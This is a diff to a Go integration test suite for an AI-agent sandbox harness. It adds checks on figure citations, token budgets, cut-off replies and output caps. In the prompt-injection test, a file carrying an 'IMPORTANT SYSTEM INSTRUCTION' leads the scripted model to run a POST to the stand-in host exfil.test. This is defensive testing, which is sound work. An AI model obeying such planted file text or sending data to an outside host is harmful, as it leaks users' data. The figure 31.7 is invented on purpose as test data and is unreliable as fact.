@@ -17,6 +17,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -24,8 +25,8 @@ import (
 	"testing"
 	"time"
 
+	"github.com/corral-dev/corral/agent"
 	"github.com/corral-dev/corral/api"
-	"github.com/corral-dev/corral/internal/agent"
 	"github.com/corral-dev/corral/internal/testutil/netlab"
 	"github.com/corral-dev/corral/sdk"
 )
@@ -73,15 +74,21 @@ type reply struct {
 	hold bool
 	// before runs when the request arrives, before the answer.
 	before func(*modelRequest)
+	// finish overrides the finish_reason; tokens the prompt tokens.
+	finish string
+	tokens int
 }
 
 type scriptedCall struct {
 	name string
 	args map[string]any
+	// raw, when set, is sent as the arguments instead of args, as a model
+	// may write them (keys unsorted, spaces).
+	raw string
 }
 
 func callTool(name string, args map[string]any) reply {
-	return reply{calls: []scriptedCall{{name, args}}}
+	return reply{calls: []scriptedCall{{name: name, args: args}}}
 }
 func finalText(s string) reply { return reply{final: s} }
 
@@ -144,15 +151,25 @@ func (m *scriptedModel) serve(w http.ResponseWriter, r *http.Request) {
 		var calls []any
 		for i, c := range rep.calls {
 			args, _ := json.Marshal(c.args)
+			if c.raw != "" {
+				args = []byte(c.raw)
+			}
 			calls = append(calls, map[string]any{"id": fmt.Sprintf("call_%d_%d", n, i), "type": "function",
 				"function": map[string]any{"name": c.name, "arguments": string(args)}})
 		}
 		msg["tool_calls"] = calls
 	}
+	if rep.finish != "" {
+		finish = rep.finish
+	}
+	prompt := 100 * n
+	if rep.tokens != 0 {
+		prompt = rep.tokens
+	}
 	w.Header().Set("Content-Type", "application/json")
 	_ = json.NewEncoder(w).Encode(map[string]any{"id": fmt.Sprintf("chatcmpl-%d", n), "object": "chat.completion",
 		"choices": []any{map[string]any{"index": 0, "message": msg, "finish_reason": finish}},
-		"usage":   map[string]any{"prompt_tokens": 100 * n, "completion_tokens": 10, "total_tokens": 100*n + 10}})
+		"usage":   map[string]any{"prompt_tokens": prompt, "completion_tokens": 10, "total_tokens": prompt + 10}})
 }
 
 func (m *scriptedModel) requests() []*modelRequest {
@@ -235,7 +252,8 @@ func finishAgent(t *testing.T, cmd *exec.Cmd, out string, stderr *bytes.Buffer) 
 	}
 	tb, _ := os.ReadFile(filepath.Join(out, "trajectory.jsonl"))
 	trace, _ := os.ReadFile(filepath.Join(out, "..", "trace.jsonl"))
-	a.raw = bytes.Join([][]byte{rb, tb, trace, []byte(a.stderr)}, []byte("\n"))
+	content, _ := os.ReadFile(filepath.Join(out, "content.jsonl"))
+	a.raw = bytes.Join([][]byte{rb, tb, trace, content, []byte(a.stderr)}, []byte("\n"))
 	sc := bufio.NewScanner(bytes.NewReader(tb))
 	sc.Buffer(nil, 1<<20)
 	for sc.Scan() {
@@ -292,35 +310,71 @@ func TestAgentReportFromACSV(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	csv := filepath.Join(t.TempDir(), "sales.csv")
-	if err = os.WriteFile(csv, []byte("month,units\njan,10\nfeb,30\nmar,20\n"), 0o644); err != nil {
-		t.Fatal(err)
-	}
+	csv := "../../examples/report-agent/sales.csv"                         // the example's own: six months, 847 units
 	analysis, err := os.ReadFile("../../examples/report-agent/analyse.py") // the same as the README's
 	if err != nil {
 		t.Fatal(err)
 	}
 	m := newScriptedModel(t,
 		callTool("code_run", map[string]any{"code": string(analysis)}),
-		reply{final: "Wrote report.md and chart.png: 60 units over 3 months, best month feb.", before: func(r *modelRequest) {
-			if out := r.lastTool(); out["error"] != nil || !strings.Contains(fmt.Sprint(out["stdout"]), "total 60") {
+		// 847 is in the code's output; 31.7 is in nothing the model saw.
+		reply{final: "Wrote report.md and chart.png: 847 units over the half year, best month jun, a 31.7% rise.", before: func(r *modelRequest) {
+			if out := r.lastTool(); out["error"] != nil || !strings.Contains(fmt.Sprint(out["stdout"]), "total 847, best jun") {
 				t.Errorf("code_run result the model saw: %v", out)
 			}
 		}},
 	)
-	a := runAgentOnce(t, s.url, m, string(policy), "--input", csv, "--task", "Analyse sales.csv: total units, best month, a bar chart (chart.png) and report.md.")
+	a := runAgentOnce(t, s.url, m, string(policy), "--input", csv, "--content-log",
+		"--task", "Analyse sales.csv: total units, best month, a bar chart (chart.png) and report.md.")
 	expectStop(t, s, a, agent.StopDone, 0)
 	chart, err := os.ReadFile(filepath.Join(a.outDir, "artifacts", "chart.png"))
 	if err != nil || !bytes.HasPrefix(chart, []byte("\x89PNG")) {
 		t.Fatalf("chart.png: %v", err)
 	}
 	report, err := os.ReadFile(filepath.Join(a.outDir, "artifacts", "report.md"))
-	if err != nil || !strings.Contains(string(report), "Total units: 60") || !strings.Contains(string(report), "Best month: feb") {
+	if err != nil || !strings.Contains(string(report), "Total units: 847") || !strings.Contains(string(report), "Best month: jun") {
 		t.Fatalf("report.md: %q %v", report, err)
 	}
 	if a.rep.Turns != 2 || a.rep.ToolCalls != 1 || a.rep.ToolErrors != 0 || len(a.rep.Commands) != 1 || a.rep.PromptTokens != 300 ||
-		a.rep.CompletionTokens != 20 || len(a.rep.Artifacts) != 3 || !strings.Contains(a.rep.ModelSummary, "60 units") {
+		a.rep.CompletionTokens != 20 || len(a.rep.Artifacts) != 3 || !strings.Contains(a.rep.ModelSummary, "847 units") {
 		t.Fatalf("report: %+v", a.rep)
+	}
+	// The report cites the code_run whose output holds the total, and
+	// marks the made-up figure; the artifacts say where they came from.
+	codeRun := a.rep.Commands[0].CallID
+	if codeRun == "" || a.rep.Commands[0].RequestID == "" || a.rep.Commands[0].Tool != "code_run" {
+		t.Fatalf("command record: %+v", a.rep.Commands[0])
+	}
+	cited := map[string]agent.Citation{}
+	for _, c := range a.rep.SummaryFigures {
+		cited[c.Figure] = c
+	}
+	if c := cited["847"]; !c.Verified || c.CallID != codeRun || c.Tool != "code_run" || c.Field != "stdout.text" {
+		t.Fatalf("the total's citation: %+v (all: %+v)", c, a.rep.SummaryFigures)
+	}
+	if c, ok := cited["31.7"]; !ok || c.Verified || !slices.Contains(a.rep.Unverified, "31.7") {
+		t.Fatalf("the made-up figure: %+v, unverified %v", c, a.rep.Unverified)
+	}
+	for _, art := range a.rep.Artifacts {
+		want := strings.HasSuffix(art.Path, "sales.csv")
+		if art.Input != want || !want && art.ProducedBy != codeRun {
+			t.Errorf("artifact %+v: want input %v, else made by %s", art, want, codeRun)
+		}
+	}
+	// The content log holds what the call answered, by its call id.
+	var logged bool
+	for _, l := range bytes.Split(readFile(t, filepath.Join(a.outDir, "content.jsonl")), []byte("\n")) {
+		var line struct {
+			Type   string          `json:"type"`
+			CallID string          `json:"call_id"`
+			Result json.RawMessage `json:"result"`
+		}
+		if json.Unmarshal(l, &line) == nil && line.Type == "tool_call" && line.CallID == codeRun && bytes.Contains(line.Result, []byte("total 847, best jun")) {
+			logged = true
+		}
+	}
+	if !logged {
+		t.Fatalf("content.jsonl has no code_run result with the total")
 	}
 	reqs := m.requests()
 	if len(reqs) != 2 || reqs[0].Auth != "Bearer "+modelKey || len(reqs[0].Tools) == 0 {
@@ -335,9 +389,12 @@ func TestAgentReportFromACSV(t *testing.T) {
 		t.Fatalf("trajectory: %v", a.traj)
 	}
 	md, _ := os.ReadFile(filepath.Join(a.outDir, "report.md"))
-	if !strings.Contains(string(md), "`done`") || !strings.Contains(string(md), "deleted") {
+	if !strings.Contains(string(md), "`done`") || !strings.Contains(string(md), "deleted") || !strings.Contains(string(md), "- 847: `"+codeRun+"` (code_run)") ||
+		!strings.Contains(string(md), "- 31.7: **unverified**") {
 		t.Fatalf("report.md:\n%s", md)
 	}
+	traj, _ := os.ReadFile(filepath.Join(a.outDir, "trajectory.jsonl"))
+	t.Logf("the run (examples/report-agent/README.md shows it):\n%s\n%s", traj, md)
 }
 
 // TestAgentStops runs one scenario per stop reason against one server,
@@ -458,6 +515,80 @@ func TestAgentStops(t *testing.T) {
 		}
 	})
 
+	t.Run("token budget", func(t *testing.T) {
+		m := newScriptedModel(t,
+			reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "true"}}}, tokens: 100},
+			reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "true"}}}, tokens: 300})
+		pol := strings.Replace(agentPolicy, "[budget]", "[budget]\ntokens = 250", 1)
+		a := runAgentOnce(t, s.url, m, pol, "--task", "loop")
+		expectStop(t, s, a, agent.StopTokenBudget, 1)
+		// The second reply's call is not run: the budget was spent by then.
+		if a.rep.ToolCalls != 1 || a.rep.PromptTokens+a.rep.CompletionTokens != 420 || len(m.requests()) != 2 {
+			t.Fatalf("report: %+v", a.rep)
+		}
+	})
+
+	t.Run("a reply cut off", func(t *testing.T) {
+		for _, finish := range []string{"length", "content_filter"} {
+			m := newScriptedModel(t, reply{final: "The total is", finish: finish})
+			a := runAgentOnce(t, s.url, m, agentPolicy, "--task", "x")
+			expectStop(t, s, a, agent.StopTruncated, 1)
+			if a.rep.ModelSummary != "The total is" || !strings.Contains(a.rep.StopMessage, finish) {
+				t.Fatalf("report: %+v", a.rep)
+			}
+		}
+		// Tool calls in a cut-off reply are not run.
+		m := newScriptedModel(t, reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "true"}}}, finish: "length"})
+		a := runAgentOnce(t, s.url, m, agentPolicy, "--task", "x")
+		expectStop(t, s, a, agent.StopTruncated, 1)
+		if a.rep.ToolCalls != 0 {
+			t.Fatalf("report: %+v", a.rep)
+		}
+	})
+
+	t.Run("large results reach the model capped", func(t *testing.T) {
+		// A 900 KiB file, a 5 MB line of text and 5 MB of NULs (JSON
+		// writes each as six bytes): each reaches the model cut to the
+		// policy's context_bytes (64 KiB), with counts, and the run goes on.
+		const contextBytes = 64 << 10
+		capped := func(want string) func(*modelRequest) {
+			return func(r *modelRequest) {
+				last := r.Messages[len(r.Messages)-1]
+				out := r.lastTool()
+				if len(last.Content) > contextBytes || out["context_cut"] == nil || out["error"] != nil || !strings.Contains(last.Content, want) {
+					t.Errorf("the model was sent %d bytes: %.300s", len(last.Content), last.Content)
+				}
+			}
+		}
+		m := newScriptedModel(t,
+			callTool("command_run", map[string]any{"command": "head -c 691200 /dev/urandom | base64 -w0 > big.txt; wc -c < big.txt"}),
+			reply{calls: []scriptedCall{{name: "file_read", args: map[string]any{"path": "big.txt"}}}, before: func(r *modelRequest) {
+				if out := r.lastTool(); strings.TrimSpace(fmt.Sprint(out["stdout"].(map[string]any)["text"])) != "921600" {
+					t.Errorf("big.txt: %v", out)
+				}
+			}},
+			reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "head -c 5000000 /dev/zero | tr '\\0' a"}}}, before: capped("bytes cut for the model's context")},
+			reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "head -c 5000000 /dev/zero"}}}, before: capped(`"bytes":5000000`)},
+			reply{final: "read it all", before: capped(`"bytes":5000000`)})
+		pol := strings.Replace(agentPolicy, "[limits]", "[limits]\noutput_bytes = 1048576", 1)
+		a := runAgentOnce(t, s.url, m, pol, "--task", "x")
+		expectStop(t, s, a, agent.StopDone, 0)
+		cut := 0
+		for _, ev := range a.events("tool_call") {
+			if ev["context_cut_bytes"] != nil {
+				cut++
+			}
+		}
+		if a.rep.ToolErrors != 0 || len(a.rep.Commands) != 3 || cut != 3 {
+			t.Fatalf("report %+v; %d calls cut for the context", a.rep, cut)
+		}
+		for i, r := range m.requests() {
+			if len(r.Body) > 6*contextBytes { // four capped results, the tools and the prompt
+				t.Errorf("model request %d is %d bytes", i, len(r.Body))
+			}
+		}
+	})
+
 	t.Run("ctrl-c", func(t *testing.T) {
 		arrived := make(chan struct{})
 		m := newScriptedModel(t,
@@ -485,8 +616,13 @@ func TestAgentRetriesCorral(t *testing.T) {
 	target, _ := url.Parse(s.url)
 	proxy := httputil.NewSingleHostReverseProxy(target)
 	var refused atomic.Int64
+	var mu sync.Mutex
+	var refusedAt []time.Time
 	front := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		if r.Method == http.MethodPost && r.URL.Path == "/v1/sandboxes" && refused.Add(1) <= 5 {
+			mu.Lock()
+			refusedAt = append(refusedAt, time.Now())
+			mu.Unlock()
 			w.Header().Set("Retry-After", "1")
 			w.Header().Set("Content-Type", "application/json")
 			w.WriteHeader(http.StatusTooManyRequests)
@@ -508,6 +644,14 @@ func TestAgentRetriesCorral(t *testing.T) {
 	if refused.Load() < 6 || creates < 2 {
 		t.Fatalf("%d creates refused, %d attempts by the agent", refused.Load(), creates)
 	}
+	// Each refusal said Retry-After: 1, and no create came sooner.
+	mu.Lock()
+	defer mu.Unlock()
+	for i := 1; i < len(refusedAt); i++ {
+		if gap := refusedAt[i].Sub(refusedAt[i-1]); gap < 900*time.Millisecond {
+			t.Errorf("create %d came %v after a refusal that said Retry-After: 1", i+1, gap)
+		}
+	}
 }
 
 // TestAgentWhenCorralGoesAway kills the server in the middle of a run:
@@ -520,7 +664,7 @@ func TestAgentWhenCorralGoesAway(t *testing.T) {
 	s := startServer(t, dir, "--runtime", "oci")
 	m := newScriptedModel(t,
 		callTool("command_run", map[string]any{"command": "true"}),
-		reply{calls: []scriptedCall{{"command_run", map[string]any{"command": "true"}}}, before: func(*modelRequest) { s.kill9(t) }})
+		reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": "true"}}}, before: func(*modelRequest) { s.kill9(t) }})
 	a := runAgentOnce(t, s.url, m, agentPolicy, "--task", "x")
 	if a.rep.StopReason != agent.StopSandboxError || a.code != 1 || a.rep.SandboxDeleted || a.rep.SandboxExpiresAt == nil {
 		t.Fatalf("report: %+v\n%s", a.rep, a.stderr)
@@ -658,7 +802,7 @@ func TestAgentPromptInjection(t *testing.T) {
 	}
 	m := newScriptedModel(t,
 		callTool("file_read", map[string]any{"path": "notes.txt"}),
-		reply{calls: []scriptedCall{{"command_run", map[string]any{"command": post("http://exfil.test/collect")}}}, before: func(r *modelRequest) {
+		reply{calls: []scriptedCall{{name: "command_run", args: map[string]any{"command": post("http://exfil.test/collect")}}}, before: func(r *modelRequest) {
 			if out := r.lastTool(); !strings.Contains(fmt.Sprint(out["content"]), "IMPORTANT SYSTEM INSTRUCTION") {
 				t.Errorf("the model did not read the injected file: %v", out)
 			}
